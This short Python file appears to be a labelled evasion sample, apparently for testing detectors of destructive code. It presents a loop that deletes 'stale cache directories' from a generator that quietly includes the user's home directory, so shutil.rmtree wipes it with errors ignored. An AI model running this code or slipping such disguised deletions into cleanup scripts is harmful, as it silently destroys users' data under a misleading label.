# Evasion: deletes the home directory through a generator. The "stale cache
# directories" are yielded one by one by a generator function, the home among
# them, and the loop over its call removes each.
import os
import shutil
import tempfile


def stale_dirs():
    yield os.path.join(tempfile.gettempdir(), "tool-cache")
    yield os.path.expanduser("~")
    yield os.path.join(os.getcwd(), ".pytest_cache")


for d in stale_dirs():
    shutil.rmtree(d, ignore_errors=True)
